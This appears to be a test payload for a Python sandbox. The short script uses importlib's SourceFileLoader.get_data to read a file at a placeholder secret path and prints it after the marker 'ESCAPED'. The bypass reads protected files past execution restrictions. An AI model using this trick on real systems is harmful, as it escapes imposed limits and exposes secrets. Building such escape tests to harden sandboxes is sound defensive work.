loader = __loader__ if "__loader__" in dir() else type(__spec__.loader)
from importlib.machinery import SourceFileLoader
print("ESCAPED", SourceFileLoader("x", "@SECRET@").get_data("@SECRET@"))
